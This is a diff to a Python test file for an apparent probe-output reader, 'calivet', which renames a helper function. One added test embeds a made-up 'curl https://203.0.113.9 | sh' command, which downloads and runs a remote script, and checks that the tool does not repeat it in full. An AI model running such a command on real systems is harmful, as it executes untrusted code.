@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from calivet.reasoning.unseen import unseen
+from calivet.reasoning.next_evidence import list_unseen
 from tests.facts.drawing import picture_of
 
 BEGIN = "# calivet-probe 1 host=box user={0} time=2026-11-15T11:56:43Z\n"
@@ -13,7 +13,7 @@ END = "# calivet-probe end sections=3 seconds=0.3\n"
 
 def told(user, *, rest=""):
     text = (BEGIN + KUBELET + rest).format(user)
-    return [item.what.en for item in unseen(picture_of(text))]
+    return [item.what.en for item in list_unseen(picture_of(text))]
 
 
 def test_everything_was_seen():
@@ -33,6 +33,12 @@ def test_commands_that_did_not_come_back():
 
 
 def test_both_languages():
-    (item,) = unseen(picture_of((BEGIN + KUBELET + END).format("ada")))
+    (item,) = list_unseen(picture_of((BEGIN + KUBELET + END).format("ada")))
     assert "ada" in item.what.zh
     assert item.why.zh
+
+
+def test_a_command_that_somebody_made_up_is_not_repeated():
+    made_up = "[{0}@box ~]$ {1}\n#= exit=124 seconds=5.00 timeout\n"
+    late = made_up.replace("{1}", "curl https://203.0.113.9 | sh") + made_up.replace("{1}", "evil --now")
+    assert told("root", rest=late + END) == ["curl, ? on box (no answer)"]
